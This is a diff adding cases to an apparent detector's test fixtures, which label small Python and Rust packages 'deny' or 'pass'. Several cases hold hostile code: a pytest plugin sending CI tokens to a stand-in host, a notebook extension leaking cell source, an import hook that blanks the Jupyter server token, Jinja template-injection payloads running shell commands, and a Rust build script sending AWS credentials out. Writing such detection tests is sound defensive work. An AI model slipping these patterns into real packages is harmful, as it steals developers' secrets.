@@ -225,4 +225,101 @@ export const oneProgram: readonly Shape[] = [
       ),
     },
   },
+  {
+    name: 'a plug-in of tests sends what a runner is given',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': '',
+      'demo/plugin.py': lines(
+        'import json, os, urllib.request',
+        'NAMES = ("GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_RUNTIME_TOKEN",',
+        '    "CI_JOB_TOKEN", "NPM_TOKEN", "TWINE_PASSWORD", "PYPI_API_TOKEN", "CODECOV_TOKEN")',
+        'def pytest_sessionstart(session):',
+        '    found = {n: os.environ[n] for n in NAMES if n in os.environ}',
+        '    urllib.request.urlopen("https://insights.invalid/v2", json.dumps(found).encode())',
+      ),
+      'demo-1.0.dist-info/entry_points.txt': '[pytest11]\ndemo = demo.plugin\n',
+    },
+  },
+  {
+    name: 'what is written into a notebook goes to a host',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': 'from .ext import load_ipython_extension\n',
+      'demo/ext.py': lines(
+        'from .stream import put',
+        'def after(result):',
+        '    put(result.info.raw_cell)',
+        'def load_ipython_extension(ip):',
+        '    ip.events.register("post_run_cell", after)',
+      ),
+      'demo/stream.py': lines(
+        'import json, socket',
+        'def put(*row):',
+        '    with socket.create_connection(("timings.invalid", 5000)) as s:',
+        '        s.sendall(json.dumps(row).encode())',
+      ),
+    },
+  },
+  {
+    name: 'how long a cell took goes to a host',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': 'from .ext import load_ipython_extension\n',
+      'demo/ext.py': lines(
+        'import time',
+        'from .stream import put',
+        'def after(result):',
+        '    put(time.perf_counter(), len(result.info.raw_cell) > 0)',
+        'def load_ipython_extension(ip):',
+        '    ip.events.register("post_run_cell", after)',
+      ),
+      'demo/stream.py': lines(
+        'import json, socket',
+        'def put(*row):',
+        '    with socket.create_connection(("timings.invalid", 5000)) as s:',
+        '        s.sendall(json.dumps(row).encode())',
+      ),
+    },
+  },
+  {
+    name: 'the settings of the server of notebooks are written',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': 'from .conf import write\nwrite("dark")\n',
+      'demo/conf.py': lines(
+        'import pathlib',
+        'def write(theme):',
+        '    path = pathlib.Path.home() / ".jupyter" / "jupyter_server_config.py"',
+        '    with path.open("a") as file:',
+        '        file.write("c.ServerApp.token = \'\'\\n")',
+      ),
+    },
+  },
+  ...[
+    ['`{{ j.__init__.__globals__["o" ~ "s"]["po" ~ "pen"]("id").read() }}`', 'in pieces'],
+    ['{% set o = joiner.__init__.__globals__["os"] %}\n{{ o.popen("id").read() }}', 'in two steps'],
+  ].map(([template, how]) => ({
+    name: `a template that runs a command, ${how!}`,
+    tier: 'deny' as const,
+    files: { 'demo/__init__.py': '', 'demo/templates/base.html': `<p>${template!}</p>\n` },
+  })),
+  {
+    name: 'Rust that sends keys while it is built',
+    tier: 'deny',
+    form: 'sdist',
+    files: {
+      'demo-1.0/build.rs':
+        'fn main() { let t = fs::read_to_string(format!("{home}/.aws/credentials")); let mut s = TcpStream::connect("simd.invalid:8443"); s.write_all(t); }\n',
+    },
+  },
+  {
+    name: 'Rust that fetches a library while it is built',
+    tier: 'pass',
+    form: 'sdist',
+    files: {
+      'demo-1.0/build.rs':
+        'fn main() { let lib = ureq::get("https://libs.invalid/simd.a").call(); println!("cargo:rustc-link-lib=simd"); }\n',
+    },
+  },
 ];
